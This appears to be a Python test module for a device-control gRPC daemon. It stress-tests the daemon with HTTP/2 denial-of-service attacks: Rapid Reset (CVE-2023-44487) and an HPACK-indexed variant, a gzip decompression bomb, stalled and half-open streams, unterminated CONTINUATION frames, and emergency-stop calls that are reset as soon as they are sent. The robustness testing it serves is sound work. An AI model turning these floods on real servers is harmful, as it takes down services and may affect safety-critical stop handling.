"""Streams: too many, reset at once, silent, compressed."""

import gzip
import time

from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GRPC, HEADERS, REQUEST, RST_STREAM,
                    SERVICE, Peer, call, frame, literal, message)

MB = 1 << 20
METHODS = ("GetServerInfo", "ListDevices", "Session", "Engage", "Release", "UpdateSettings",
           "Watch", "ClearFault")
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def threads(daemon):
    """Of owner and front."""
    count = 0
    for pid in [daemon.pid, *daemon.fronts()]:
        with open(f"/proc/{pid}/status", encoding="utf-8") as status:
            count += next(int(line.split()[1]) for line in status if line.startswith("Threads:"))
    return count


def rapid_reset(daemon):
    """HEADERS and RST_STREAM at once (CVE-2023-44487), over eight methods."""
    sent, peers = 0, [Peer(daemon.tcp, timeout=1.0) for _ in range(4)]
    end = time.monotonic() + 3.0
    reset = b"\0\0\0\x08"
    while time.monotonic() < end and not all(peer.closed for peer in peers) and sent < 64 * MB:
        for peer in peers:
            piece = b""
            for _ in range(100):
                number = peer.stream()
                path = SERVICE + METHODS[number // 2 % len(METHODS)]
                piece += frame(HEADERS, END_HEADERS, number, call(path))
                piece += frame(RST_STREAM, 0, number, reset)
            peer.send(piece)
            peer.drain()
            sent += len(piece)
    resets = sum(peer.next_stream // 2 for peer in peers)
    notes = [f"{resets} streams", f"{sum(p.closed for p in peers)} of 4 connections closed"]
    for peer in peers:
        peer.socket.close()
    return {"sent": sent, "notes": notes}


def indexed_reset(daemon):
    """The same with the headers in HPACK's table: a stream that is taken back costs 45 bytes."""
    fields = (*REQUEST, (":path", SERVICE + "Session"), *GRPC)
    stored = b"".join(b"\x40" + literal(*field)[1:] for field in fields)
    indexed = bytes(0x80 | 61 + i for i in range(len(fields), 0, -1))
    sent, streams = 0, 0
    end = time.monotonic() + 3.0
    while time.monotonic() < end and sent < 64 * MB:
        try:
            peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(4)]
        except OSError:
            continue  # the door is shut for a while
        for peer in peers:
            peer.send(frame(HEADERS, END_HEADERS, peer.stream(), stored))
        while time.monotonic() < end and not all(peer.closed for peer in peers):
            for peer in peers:
                piece = b""
                for _ in range(200):
                    number = peer.stream()
                    piece += (frame(HEADERS, END_HEADERS, number, indexed) +
                              frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
                peer.send(piece)
                peer.drain()
        sent += sum(peer.sent for peer in peers)
        streams += sum(peer.next_stream // 2 for peer in peers)
        for peer in peers:
            peer.socket.close()
    return {"sent": sent, "notes": [f"{streams} streams"]}


def unread_answers(daemon):
    """Calls as fast as they go, from 60 connections that read nothing."""
    peers = [Peer(daemon.tcp, polite=False, timeout=0.05) for _ in range(60)]
    end = time.monotonic() + 3.0
    while time.monotonic() < end and not all(peer.closed for peer in peers):
        for peer in peers:
            piece = b""
            for _ in range(50):
                number = peer.stream()
                piece += (frame(HEADERS, END_HEADERS, number, call(SERVICE + "GetServerInfo")) +
                          frame(DATA, END_STREAM, number, message(b"")))
            peer.send(piece)
    sent = sum(peer.sent for peer in peers)
    for peer in peers:
        peer.socket.close()
    return {"sent": sent, "notes": [f"{sum(p.next_stream // 2 for p in peers)} calls"]}


def streams_without_open(daemon, most=12_000, seconds=3.0):
    """Session streams whose first message never comes, from 30 connections."""
    peers, count = [], 0
    end = time.monotonic() + seconds
    peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(30)]
    head = call(SERVICE + "Session")
    while time.monotonic() < end and count < most and not all(p.closed for p in peers):
        for peer in peers:
            for _ in range(20):
                peer.send(frame(HEADERS, END_HEADERS, peer.stream(), head))
            count += 20
            peer.drain()
    time.sleep(max(0.0, end - time.monotonic()))
    return {"sent": sum(p.sent for p in peers), "notes": [f"{count} streams"]}


def gzip_bomb(daemon, connections, calls):
    """A request of 64 MB of zeros, compressed to 64 KB."""
    packed = gzip.compress(b"\0" * (64 * MB), 9)
    sent = 0
    peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(connections)]
    for _ in range(calls):
        for peer in peers:
            number = peer.stream()
            body = message(packed, compressed=True)
            peer.drain(0.02)
            peer.send(frame(HEADERS, END_HEADERS, number,
                            call(SERVICE + "GetServerInfo", ("grpc-encoding", "gzip"))))
            for at in range(0, len(body), 16_384):
                peer.send(frame(DATA, END_STREAM if at + 16_384 >= len(body) else 0, number,
                                body[at:at + 16_384]))
                peer.drain()
            sent += len(body)
    for peer in peers:
        peer.drain(1.0 / len(peers))
        peer.socket.close()
    return {"sent": sent, "notes": [f"{connections * calls * 64} MB unpacked"]}


def gzip_one(daemon):
    return gzip_bomb(daemon, 1, 1)


def gzip_many(daemon):
    return gzip_bomb(daemon, 12, 2)


def reflection(daemon):
    """Silent streams of server reflection: a thread each, if the library's own service has them."""
    before = threads(daemon)
    peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(10)]
    for peer in peers:
        peer.drain(0.05)
        for _ in range(100):
            peer.send(frame(HEADERS, END_HEADERS, peer.stream(), call(REFLECTION)))
    time.sleep(1.0)
    grew = threads(daemon) - before
    wrong = [f"{grew} more threads for 1,000 silent streams"] if grew > 40 else []
    sent = sum(peer.sent for peer in peers)
    for peer in peers:
        peer.socket.close()
    return {"sent": sent, "wrong": wrong, "notes": [f"{grew} more threads"]}


def endless_calls(daemon):
    """Health's Watch a thousand times, and Engage whose request never ends."""
    peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(10)]
    for peer in peers:
        peer.drain(0.05)
        for i in range(100):
            number = peer.stream()
            if i % 2:
                peer.send(frame(HEADERS, END_HEADERS, number, call("/grpc.health.v1.Health/Watch"))
                          + frame(DATA, END_STREAM, number, message(b"")))
            else:
                peer.send(frame(HEADERS, END_HEADERS, number, call(SERVICE + "Engage")) +
                          frame(DATA, 0, number, message(b"\x0a\x20" + b"0" * 32)[:20]))
        peer.drain()
    time.sleep(1.0)
    sent = sum(peer.sent for peer in peers)
    for peer in peers:
        peer.socket.close()
    return {"sent": sent, "notes": ["1,000 calls that do not end"]}


def half_headers(daemon):
    """A thousand connections' worth of streams whose header block never ends."""
    peers = [Peer(daemon.tcp, timeout=1.0) for _ in range(200)]
    for peer in peers:
        number = peer.stream()
        peer.send(frame(HEADERS, 0, number, call(SERVICE + "Session")) +
                  frame(CONTINUATION, 0, number, b""))
    time.sleep(1.0)
    sent = sum(peer.sent for peer in peers)
    for peer in peers:
        peer.socket.close()
    return {"sent": sent}


def reset_stops(daemon):
    """Stops of the spare device that are reset as soon as they are whole: the finger, of which
    they say nothing, keeps its force."""
    body = message(b"\x0a\x05spare")
    with Peer(daemon.tcp) as peer:
        peer.drain(0.05)
        for i in range(200):
            number = peer.stream()
            peer.send(frame(HEADERS, END_HEADERS, number, call(SERVICE + "EmergencyStop")) +
                      frame(DATA, END_STREAM, number, body) +
                      frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
            peer.drain(0.002)
        peer.drain(0.2)
        return {"sent": peer.sent, "notes": ["200 stops"]}
